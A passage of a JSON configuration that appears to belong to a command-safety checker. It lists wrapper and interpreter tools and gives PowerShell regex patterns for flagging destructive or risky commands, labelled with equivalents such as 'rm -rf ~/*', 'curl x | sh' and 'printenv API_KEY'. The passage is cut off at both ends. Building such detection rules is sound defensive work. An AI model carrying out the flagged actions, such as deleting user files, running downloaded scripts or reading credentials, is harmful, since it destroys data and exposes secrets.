-":"","long":[],"after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after"\
-:["run"]},"hatch":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical\
-":{"short":"","long":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short\
-":"ares","long":["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"",\
-"long":[],"after":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"s\
-hort":"","long":[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]}\
-,"vagrant":{"short":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["foral\
-l"]}},"package_verbs":["access","add","approve-builds","audit","autoclean","bin","cache","cat-file","cat-index","check","ci","completion","config","constraints"\
-,"create","dedupe","deploy","dlx","doctor","env","exec","explain","fetch","find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","impo\
-rt","info","init","install","install-test","it","licenses","link","list","ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-c\
-ommit","patch-remove","plugin","policies","profile","prune","publish","rb","rebuild","recursive","remove","rm","root","run","run-script","search","self-update",\
-"selfupdate","server","set","setup","stage","start","stop","store","tag","team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-i\
-nteractive","version","versions","view","whoami","why","with","workspace","workspaces"],"small_languages":{"lua":{"short":"e","long":[],"code":["e"],"dialect":"\
-lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.2":{"short":"e","long":[\
-],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.4":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"Rsc\
-ript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"dialect":"r"},"julia":{"short":"eE","long":["eval","print"],"c\
-ode":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"wish":{"short":"","long":[],"dialect":"tcl"},"expect":{"short":\
-"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"emacsclient":{"short":"e","long":["eval"\
-],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"racket":{"short":"cex","long":["ev\
-al"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"ecl":{"short":"cex","lon\
-g":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"chicken":{"short\
-":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"gosh":\
-{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"iex"\
-:{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"erl":{"short":\
-"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"octave":{"short":"r","long":["\
-eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"}\
-,"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"r\
-unghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"scala":{"short":"ec","long":[]\
-,"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"amm":{"short":"ec","long":[],"code":["e","c"],"dia\
-lect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"swift":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},\
-"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","long":[],"code":["e"],"dialect":"named","operands":"code"},"go\
-":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-script":{"short":"","long":[],"dialect":"named"},"swiftc":{"sh\
-ort":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","long":[],"dialect":"named"},"kotlinc":{"short":"","long":[]\
-,"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"","long":[],"dialect":"typed"},"jshell":{"short":"","long":\
-[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dialect":"typed"},"tcc":{"short":"","long":[],"dialect":"typed"\
-},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clang":{"short":"","long":[],"dialect":"typed"},"clang++":{"sho\
-rt":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"","long":[],"dialect":"typed"},"pwsh":{"short":"c","long":["\
-Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\\
-s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?\
-:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\
-\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{\
-0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*\
-(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$\
-HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|\
-Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"t\
-runcate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'\
-$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,3\
-00}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir\
-)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|\
-ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\
-\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s\
-+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,\
-300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseNa\
-me|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\
-\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md\
-)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\
-\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|w\
-sl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[\
-^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]\
-*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:\
-Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invo\
-ke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\("\
-,"(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|ir\
-m|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}\
-(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ig\
-nores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0\
-,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)\
-|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\
-\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"d\
-oes":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\\
-.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Inc\
-lude)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]\
-?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\\
-bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\\
-"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+\
-)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b\
-"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:\
-System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|\
-#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){\
-0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\
-\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildI\
-tem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\
-\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\
-\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|te\
-rraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskp\
-art|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|Lo\
-calUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-R\
-ecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x \
-| sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-R\
-estMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invo\
-ke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildIt\
-em|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","enco\
-ded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-\
-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|t\
-hrow)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\
-\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\
-\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Re\
-move-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|\
-~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,3\
-00}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\\
-"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -\
-s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear\
--Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\\
-s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b\
-[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,(\
-)]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-]\
-[^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w])\
-)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\\
-b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n\
-]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))\
-[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}\
-[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssa\
-dmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"\
-])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|R\
-estart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Re\
-gister-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-Res\
-tMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebR\
-equest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invo\
-ke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASS\
